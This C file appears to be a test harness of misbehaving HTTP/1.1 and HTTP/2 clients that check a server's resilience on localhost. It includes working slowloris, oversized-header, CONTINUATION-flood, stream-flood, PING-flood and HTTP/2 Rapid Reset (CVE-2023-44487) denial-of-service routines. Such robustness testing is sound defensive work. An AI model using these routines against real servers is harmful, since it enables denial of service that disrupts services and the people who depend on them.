/*
 * hostile: misbehaving HTTP clients for tests/e2e/hostile.sh. Plain sockets, hand-built HTTP/2
 * frames (HPACK: static-table indexes and literals without Huffman). Every mode is bounded in
 * count and time and prints one line of what the server did.
 *
 *   hostile PORT idle N SECS          N TCP connections that never send a byte, held SECS
 *   hostile PORT h2idle N SECS        N HTTP/2 connections (preface + SETTINGS), then silent
 *   hostile PORT slowloris N SECS     N HTTP/1.1 requests trickling one header byte every 200 ms
 *   hostile PORT bigheader1           one HTTP/1.1 request with a 1 MiB header
 *   hostile PORT bigheader2           one HTTP/2 request whose header block is 2 MiB (CONTINUATIONs)
 *   hostile PORT streams PATH N       N HTTP/2 GETs opened at once on one connection, never read
 *   hostile PORT rapidreset PATH N    N times HEADERS + RST_STREAM on one connection (CVE-2023-44487)
 *   hostile PORT pingflood N          N PING frames, responses never read
 *   hostile PORT noread PATH N SECS   N HTTP/1.1 GETs of PATH whose responses are never read
 *
 * Exit 0 when the run itself worked (the verdict on the server is the script's: alive, answering,
 * memory bounded), 2 on usage errors, 1 when the attack could not even be set up.
 */
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>

static int port;

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int dial(int nonblock)
{
    int fd = socket(AF_INET, SOCK_STREAM | (nonblock ? SOCK_NONBLOCK : 0), 0);
    if (fd < 0)
        return -1;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Writes all of buf (blocking socket); 0 or -1 when the server closed. */
static int send_all(int fd, const void *buf, size_t n)
{
    const char *p = buf;
    while (n > 0) {
        ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
        if (w <= 0)
            return -1;
        p += w;
        n -= (size_t)w;
    }
    return 0;
}

/* 1 when the server closed fd (EOF or reset), reading and discarding what is there. */
static int closed_by_server(int fd)
{
    char buf[65536];
    for (;;) {
        ssize_t r = recv(fd, buf, sizeof(buf), MSG_DONTWAIT);
        if (r == 0)
            return 1;
        if (r < 0)
            return errno == EAGAIN || errno == EWOULDBLOCK ? 0 : 1;
    }
}

static void raise_nofile(unsigned need)
{
    struct rlimit rl;
    getrlimit(RLIMIT_NOFILE, &rl);
    rl.rlim_cur = rl.rlim_max;
    setrlimit(RLIMIT_NOFILE, &rl);
    if (rl.rlim_cur < need + 64) {
        fprintf(stderr, "hostile: the fd limit is %lu, %u are needed\n", (unsigned long)rl.rlim_cur,
                need + 64);
        exit(1);
    }
}

/* ---- HTTP/2 ---- */

static const char PREFACE[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

static size_t frame_head(uint8_t *b, size_t len, uint8_t type, uint8_t flags, uint32_t stream)
{
    b[0] = (uint8_t)(len >> 16), b[1] = (uint8_t)(len >> 8), b[2] = (uint8_t)len;
    b[3] = type, b[4] = flags;
    b[5] = (uint8_t)(stream >> 24 & 0x7f), b[6] = (uint8_t)(stream >> 16), b[7] = (uint8_t)(stream >> 8),
    b[8] = (uint8_t)stream;
    return 9;
}

/* HPACK integer with an n-bit prefix. */
static size_t hpack_int(uint8_t *b, uint8_t first, int nbits, size_t v)
{
    size_t max = (1u << nbits) - 1, k = 0;
    if (v < max) {
        b[k++] = (uint8_t)(first | v);
        return k;
    }
    b[k++] = (uint8_t)(first | max);
    v -= max;
    while (v >= 128) {
        b[k++] = (uint8_t)(v % 128 + 128);
        v /= 128;
    }
    b[k++] = (uint8_t)v;
    return k;
}

/* A GET header block for path: :method GET, :scheme http, :path (literal), :authority (literal). */
static size_t get_block(uint8_t *b, const char *path)
{
    size_t k = 0, n = strlen(path);
    b[k++] = 0x82;                     /* :method GET */
    b[k++] = 0x86;                     /* :scheme http */
    k += hpack_int(b + k, 0x00, 4, 4); /* literal without indexing, name :path */
    k += hpack_int(b + k, 0x00, 7, n);
    memcpy(b + k, path, n);
    k += n;
    k += hpack_int(b + k, 0x00, 4, 1); /* :authority */
    k += hpack_int(b + k, 0x00, 7, 9);
    memcpy(b + k, "127.0.0.1", 9);
    return k + 9;
}

static int h2_open(void)
{
    int fd = dial(0);
    if (fd < 0)
        return -1;
    uint8_t b[64];
    size_t k = frame_head(b, 0, 4, 0, 0); /* empty SETTINGS */
    if (send_all(fd, PREFACE, sizeof(PREFACE) - 1) != 0 || send_all(fd, b, k) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Reads frames for up to secs; counts HEADERS, DATA bytes, RST_STREAM, GOAWAY; sends SETTINGS ACKs
 * and WINDOW_UPDATEs when `consume`. Returns 1 when the server closed the connection. */
typedef struct h2stats {
    unsigned headers, rst, goaway, pings;
    size_t data;
    uint32_t goaway_error;
} h2stats_t;

static int h2_drain(int fd, double secs, int consume, h2stats_t *st)
{
    static uint8_t buf[1 << 20];
    size_t have = 0;
    double end = now() + secs;
    while (now() < end) {
        struct pollfd p = {fd, POLLIN, 0};
        int ms = (int)((end - now()) * 1000) + 1;
        if (poll(&p, 1, ms) <= 0)
            continue;
        ssize_t r = recv(fd, buf + have, sizeof(buf) - have, 0);
        if (r <= 0)
            return 1;
        have += (size_t)r;
        size_t off = 0;
        while (have - off >= 9) {
            size_t len = (size_t)buf[off] << 16 | (size_t)buf[off + 1] << 8 | buf[off + 2];
            if (have - off < 9 + len)
                break;
            uint8_t type = buf[off + 3], flags = buf[off + 4];
            const uint8_t *pl = buf + off + 9;
            if (type == 1)
                st->headers++;
            if (type == 0) {
                st->data += len;
                if (consume && len) { /* give the window back, connection and stream */
                    uint8_t w[26];
                    uint32_t sid = (uint32_t)(buf[off + 5] & 0x7f) << 24 | (uint32_t)buf[off + 6] << 16 |
                                   (uint32_t)buf[off + 7] << 8 | buf[off + 8];
                    size_t k = frame_head(w, 4, 8, 0, 0);
                    w[k++] = (uint8_t)(len >> 24), w[k++] = (uint8_t)(len >> 16),
                    w[k++] = (uint8_t)(len >> 8), w[k++] = (uint8_t)len;
                    k += frame_head(w + k, 4, 8, 0, sid);
                    w[k++] = (uint8_t)(len >> 24), w[k++] = (uint8_t)(len >> 16),
                    w[k++] = (uint8_t)(len >> 8), w[k++] = (uint8_t)len;
                    send_all(fd, w, k);
                }
            }
            if (type == 3)
                st->rst++;
            if (type == 6)
                st->pings++;
            if (type == 7) {
                st->goaway++;
                if (len >= 8)
                    st->goaway_error =
                        (uint32_t)pl[4] << 24 | (uint32_t)pl[5] << 16 | (uint32_t)pl[6] << 8 | pl[7];
            }
            if (type == 4 && !(flags & 1) && consume) {
                uint8_t a[9];
                frame_head(a, 0, 4, 1, 0);
                send_all(fd, a, 9);
            }
            off += 9 + len;
        }
        memmove(buf, buf + off, have - off);
        have -= off;
    }
    return 0;
}

static void print_h2(const char *what, const h2stats_t *st, int closed, double secs)
{
    printf(
        "%s: %u HEADERS, %zu DATA bytes, %u RST_STREAM, %u PING acks, %u GOAWAY (error %u); connection %s; "
        "%.2f s\n",
        what, st->headers, st->data, st->rst, st->pings, st->goaway, st->goaway_error,
        closed ? "closed by the server" : "still open", secs);
}

/* ---- modes ---- */

static int mode_idle(unsigned n, double secs, int h2)
{
    raise_nofile(n);
    int *fds = calloc(n, sizeof(*fds));
    unsigned open_ok = 0;
    double t0 = now();
    for (unsigned i = 0; i < n; i++) {
        fds[i] = h2 ? h2_open() : dial(1);
        open_ok += fds[i] >= 0;
    }
    double t1 = now();
    printf("opened %u of %u %s connections in %.2f s\n", open_ok, n, h2 ? "HTTP/2" : "silent TCP", t1 - t0);
    fflush(stdout);
    /* hold them; report how many the server closed meanwhile */
    double first_close = 0;
    unsigned closed = 0;
    while (now() - t1 < secs) {
        usleep(200000);
        closed = 0;
        for (unsigned i = 0; i < n; i++)
            if (fds[i] >= 0 && closed_by_server(fds[i]))
                closed++;
        if (closed && !first_close)
            first_close = now() - t1;
    }
    printf("after %.1f s: %u still open, %u closed by the server (first close after %.1f s)\n", now() - t1,
           open_ok - closed, closed, first_close);
    for (unsigned i = 0; i < n; i++)
        if (fds[i] >= 0)
            close(fds[i]);
    free(fds);
    return open_ok == n ? 0 : 1;
}

static int mode_slowloris(unsigned n, double secs)
{
    raise_nofile(n);
    static const char req[] =
        "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    int *fds = calloc(n, sizeof(*fds));
    double *closed_at = calloc(n, sizeof(*closed_at));
    size_t sent = 0;
    double t0 = now();
    for (unsigned i = 0; i < n; i++)
        fds[i] = dial(0);
    while (now() - t0 < secs) {
        unsigned open = 0;
        for (unsigned i = 0; i < n; i++) {
            if (fds[i] < 0 || closed_at[i] > 0)
                continue;
            if (sent < sizeof(req) - 1 && send(fds[i], req + sent, 1, MSG_NOSIGNAL | MSG_DONTWAIT) != 1) {
                closed_at[i] = now() - t0;
                continue;
            }
            if (closed_by_server(fds[i])) {
                closed_at[i] = now() - t0;
                continue;
            }
            open++;
        }
        sent++;
        if (open == 0)
            break;
        usleep(200000);
    }
    unsigned closed = 0;
    double last = 0;
    for (unsigned i = 0; i < n; i++)
        if (closed_at[i] > 0) {
            closed++;
            if (closed_at[i] > last)
                last = closed_at[i];
        }
    printf("slowloris: %u connections, %zu header bytes each sent one every 200 ms; %u closed by the server, "
           "the "
           "last after %.1f s; %u still open after %.1f s\n",
           n, sent < sizeof(req) - 1 ? sent : sizeof(req) - 1, closed, last, n - closed, now() - t0);
    for (unsigned i = 0; i < n; i++)
        if (fds[i] >= 0)
            close(fds[i]);
    free(fds);
    free(closed_at);
    return 0;
}

static int mode_bigheader1(void)
{
    int fd = dial(0);
    if (fd < 0)
        return 1;
    size_t n = 1u << 20;
    char *big = malloc(n + 256);
    int k = snprintf(big, 256, "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Big: ");
    memset(big + k, 'a', n);
    memcpy(big + k + n, "\r\n\r\n", 4);
    double t0 = now();
    int sent = send_all(fd, big, (size_t)k + n + 4) == 0;
    char resp[256] = "";
    struct timeval tv = {5, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    ssize_t r = recv(fd, resp, sizeof(resp) - 1, 0);
    if (r > 0)
        resp[r] = 0;
    resp[strcspn(resp, "\r\n")] = 0;
    printf("bigheader1: 1 MiB header %s; answer: %s; %.2f s\n",
           sent ? "sent" : "cut off by the server (closed)", r > 0 ? resp : "none (connection closed)",
           now() - t0);
    free(big);
    close(fd);
    return 0;
}

static int mode_bigheader2(void)
{
    int fd = h2_open();
    if (fd < 0)
        return 1;
    /* HEADERS without END_HEADERS, then 128 CONTINUATION frames of 16 KiB: a 2 MiB block */
    uint8_t *b = malloc(1 << 16);
    size_t k = 9, hb = get_block(b + 9, "/healthz");
    k += hb;
    frame_head(b, hb, 1, 0x1 /* END_STREAM */, 1);
    double t0 = now();
    int ok = send_all(fd, b, k) == 0;
    size_t total = 0;
    for (int i = 0; ok && i < 128; i++) {
        size_t len = 16384;
        frame_head(b, len, 9, i == 127 ? 0x4 : 0, 1);
        /* one literal header that keeps going: name "x", value bytes split over the frames */
        memset(b + 9, 'a', len);
        ok = send_all(fd, b, 9 + len) == 0;
        total += ok ? len : 0;
    }
    h2stats_t st = {0};
    int closed = h2_drain(fd, 3, 1, &st);
    char what[96];
    snprintf(what, sizeof(what), "bigheader2: %zu KiB of CONTINUATION sent%s", total / 1024,
             ok ? "" : " (then the server stopped reading)");
    print_h2(what, &st, closed, now() - t0);
    free(b);
    close(fd);
    return 0;
}

static int mode_streams(const char *path, unsigned n, int rst)
{
    int fd = h2_open();
    if (fd < 0)
        return 1;
    size_t cap = 64 + (size_t)n * (9 + 96 + strlen(path) + 13);
    uint8_t *b = malloc(cap);
    double t0 = now();
    size_t k = 0, sent = 0;
    uint32_t sid = 1;
    int ok = 1;
    for (unsigned i = 0; i < n && ok; i++, sid += 2) {
        size_t hb = get_block(b + k + 9, path);
        frame_head(b + k, hb, 1, 0x5 /* END_STREAM | END_HEADERS */, sid);
        k += 9 + hb;
        if (rst) {
            frame_head(b + k, 4, 3, 0, sid);
            k += 9;
            b[k++] = 0, b[k++] = 0, b[k++] = 0, b[k++] = 8; /* CANCEL */
        }
        if (k > cap - 512 || i == n - 1) {
            ok = send_all(fd, b, k) == 0;
            sent += ok ? k : 0;
            k = 0;
        }
    }
    h2stats_t st = {0};
    int closed = h2_drain(fd, rst ? 2 : 3, rst, &st);
    char what[128];
    snprintf(what, sizeof(what), "%s: %u streams (%zu bytes) sent%s", rst ? "rapidreset" : "streams", n, sent,
             ok ? "" : ", then the server closed");
    print_h2(what, &st, closed, now() - t0);
    free(b);
    close(fd);
    return 0;
}

static int mode_pingflood(unsigned n)
{
    int fd = h2_open();
    if (fd < 0)
        return 1;
    uint8_t b[17 * 1024];
    size_t k = 0;
    unsigned sent = 0;
    int ok = 1;
    int sz = 1 << 14; /* a small receive buffer: the server's acks back up quickly */
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &sz, sizeof(sz));
    struct timeval tv = {5, 0};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
    double t0 = now();
    for (unsigned i = 0; i < n && ok; i++) {
        frame_head(b + k, 8, 6, 0, 0);
        memcpy(b + k + 9, &i, sizeof(i));
        memset(b + k + 9 + sizeof(i), 0, 8 - sizeof(i));
        k += 17;
        if (k > sizeof(b) - 17 || i == n - 1) {
            ok = send_all(fd, b, k) == 0;
            sent += ok ? (unsigned)(k / 17) : 0;
            k = 0;
        }
    }
    double t1 = now();
    h2stats_t st = {0};
    int closed = h2_drain(fd, 2, 0, &st);
    char what[128];
    snprintf(what, sizeof(what), "pingflood: %u of %u PINGs sent in %.2f s without reading%s", sent, n,
             t1 - t0, ok ? "" : " (then the server stopped reading)");
    print_h2(what, &st, closed, now() - t0);
    close(fd);
    return 0;
}

static int mode_noread(const char *path, unsigned n, double secs)
{
    raise_nofile(n);
    int *fds = calloc(n, sizeof(*fds));
    char req[512];
    int len = snprintf(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", path);
    unsigned ok = 0;
    for (unsigned i = 0; i < n; i++) {
        fds[i] = dial(0);
        if (fds[i] < 0)
            continue;
        int sz = 4096;
        setsockopt(fds[i], SOL_SOCKET, SO_RCVBUF, &sz, sizeof(sz));
        /* pipelined: 50 requests, nothing read */
        for (int j = 0; j < 50; j++)
            if (send_all(fds[i], req, (size_t)len) != 0)
                break;
        ok++;
    }
    sleep((unsigned)secs);
    unsigned closed = 0;
    for (unsigned i = 0; i < n; i++)
        if (fds[i] >= 0) {
            closed += closed_by_server(fds[i]);
            close(fds[i]);
        }
    printf("noread: %u connections x 50 pipelined GETs of %s, never read; %u closed by the server after %.0f "
           "s\n",
           ok, path, closed, secs);
    free(fds);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 3)
        goto usage;
    port = atoi(argv[1]);
    const char *m = argv[2];
    if (!strcmp(m, "idle") && argc == 5)
        return mode_idle((unsigned)atoi(argv[3]), atof(argv[4]), 0);
    if (!strcmp(m, "h2idle") && argc == 5)
        return mode_idle((unsigned)atoi(argv[3]), atof(argv[4]), 1);
    if (!strcmp(m, "slowloris") && argc == 5)
        return mode_slowloris((unsigned)atoi(argv[3]), atof(argv[4]));
    if (!strcmp(m, "bigheader1"))
        return mode_bigheader1();
    if (!strcmp(m, "bigheader2"))
        return mode_bigheader2();
    if (!strcmp(m, "streams") && argc == 5)
        return mode_streams(argv[3], (unsigned)atoi(argv[4]), 0);
    if (!strcmp(m, "rapidreset") && argc == 5)
        return mode_streams(argv[3], (unsigned)atoi(argv[4]), 1);
    if (!strcmp(m, "pingflood") && argc == 4)
        return mode_pingflood((unsigned)atoi(argv[3]));
    if (!strcmp(m, "noread") && argc == 6)
        return mode_noread(argv[3], (unsigned)atoi(argv[4]), atof(argv[5]));
usage:
    fprintf(stderr, "usage: hostile PORT idle|h2idle N SECS | slowloris N SECS | bigheader1 | bigheader2 |\n"
                    "       streams PATH N | rapidreset PATH N | pingflood N | noread PATH N SECS\n");
    return 2;
}
